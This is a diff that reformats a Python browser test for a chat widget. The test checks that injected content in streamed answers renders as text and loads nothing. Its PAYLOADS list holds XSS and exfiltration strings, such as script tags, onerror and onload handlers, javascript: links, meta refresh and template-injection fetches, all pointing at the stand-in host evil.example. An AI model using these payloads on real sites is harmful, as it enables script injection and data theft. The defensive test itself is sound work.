@@ -126,13 +126,25 @@ def test_choices_are_buttons_and_a_follow_up_goes_on(visit: Visit, settings: tup
 
 
 PAYLOADS = [
-    "![x](http://evil.example/b.png)", "<img src=http://evil.example/b.png onerror=alert(1)>", "<script src=http://evil.example/x.js></script>",
-    "<iframe src=http://evil.example></iframe>", "<svg onload=fetch('http://evil.example')>", "<link rel=stylesheet href=http://evil.example/x.css>",
-    "<form action=http://evil.example><button>x</button></form>", "[click](javascript:fetch('http://evil.example'))",
-    "<video src=http://evil.example/v.mp4 autoplay></video>", "<object data=http://evil.example></object>", "<embed src=http://evil.example>",
-    "<base href=http://evil.example>", "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<a href=http://evil.example ping=http://evil.example>x</a>",
-    "<style>@import 'http://evil.example/x.css'</style>", "<input type=image src=http://evil.example/i.png>", "<math><mi xlink:href=http://evil.example>", "{{constructor.constructor('fetch(`http://evil.example`)')()}}",
-]  # fmt: skip
+    "![x](http://evil.example/b.png)",
+    "<img src=http://evil.example/b.png onerror=alert(1)>",
+    "<script src=http://evil.example/x.js></script>",
+    "<iframe src=http://evil.example></iframe>",
+    "<svg onload=fetch('http://evil.example')>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<form action=http://evil.example><button>x</button></form>",
+    "[click](javascript:fetch('http://evil.example'))",
+    "<video src=http://evil.example/v.mp4 autoplay></video>",
+    "<object data=http://evil.example></object>",
+    "<embed src=http://evil.example>",
+    "<base href=http://evil.example>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<a href=http://evil.example ping=http://evil.example>x</a>",
+    "<style>@import 'http://evil.example/x.css'</style>",
+    "<input type=image src=http://evil.example/i.png>",
+    "<math><mi xlink:href=http://evil.example>",
+    "{{constructor.constructor('fetch(`http://evil.example`)')()}}",
+]
 
 
 def _streaming(body: str):
@@ -141,13 +153,32 @@ def _streaming(body: str):
 
 def test_what_is_asked_or_answered_is_shown_as_text_and_fetches_nothing(visit: Visit) -> None:
     answer = {
-        "decision": "answer", "text": "PAYLOAD [1]\n\n1. PAYLOAD\n2. x", "language": "en", "question_language": "en", "conversation_id": "c",
-        "statements": [], "choices": ["PAYLOAD"], "suggestions": [], "vehicle": None, "rules": [],
+        "decision": "answer",
+        "text": "PAYLOAD [1]\n\n1. PAYLOAD\n2. x",
+        "language": "en",
+        "question_language": "en",
+        "conversation_id": "c",
+        "statements": [],
+        "choices": ["PAYLOAD"],
+        "suggestions": [],
+        "vehicle": None,
+        "rules": [],
         "citations": [
-            {"n": 1, "document_id": "d", "chunk_id": "PAYLOAD", "title": "PAYLOAD", "section": "PAYLOAD", "language": "en", "url": None,
-             "quote": "PAYLOAD", "as_of": 2020, "status": "fact", "sources": [{"label": "PAYLOAD", "year": 2020}]},
+            {
+                "n": 1,
+                "document_id": "d",
+                "chunk_id": "PAYLOAD",
+                "title": "PAYLOAD",
+                "section": "PAYLOAD",
+                "language": "en",
+                "url": None,
+                "quote": "PAYLOAD",
+                "as_of": 2020,
+                "status": "fact",
+                "sources": [{"label": "PAYLOAD", "year": 2020}],
+            },
         ],
-    }  # fmt: skip
+    }
     for payload in PAYLOADS:
         body = f"event: done\ndata: {json.dumps(answer).replace('PAYLOAD', json.dumps(payload)[1:-1])}\n\n"
         visit.page.unroute_all()
@@ -250,7 +281,8 @@ def hostile_site(address: str) -> Iterator[str]:
         def do_GET(self) -> None:
             css = self.path.endswith(".css")
             page = (
-                '<!doctype html><html lang="fr"><head><title>x</title><link rel="stylesheet" href="/hostile.css"></head><body><h1>Un site</h1>'
+                '<!doctype html><html lang="fr"><head><title>x</title><link rel="stylesheet" href="/hostile.css"></head>'
+                "<body><h1>Un site</h1>"
                 f'<script src="{address}/widget.js" data-market="FR" data-language="fr"></script></body></html>'
             )
             self.send_response(200)
